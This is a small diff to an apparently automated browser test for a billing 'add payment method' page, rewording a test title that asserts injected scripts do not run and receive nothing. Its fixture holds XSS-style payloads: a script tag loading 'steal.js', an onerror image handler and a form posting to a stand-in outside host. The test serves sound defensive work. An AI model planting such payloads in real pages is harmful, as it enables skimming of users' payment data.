@@ -7,7 +7,7 @@ const STRANGER = 'https://scripts.example';
 const ADDED = `<script src="${STRANGER}/steal.js"></script><script>window.stolen = 'inline'</script>
   <img src="${STRANGER}/pixel" onerror="window.stolen = 'handler'"><form action="${STRANGER}/form"><button id="pressed">Save</button></form>`;
 
-test('(A24) scripts that somebody adds to the page of the fields, or to the page around it, do not run, and nothing goes to them', {
+test('(A24) scripts injected into the page of the fields, or the page around it, do not run, and nothing is sent to them', {
   tag: long,
 }, async ({ page, setting, browser }) => {
   await signIn(page, 'olivia', '/billing/methods/add');
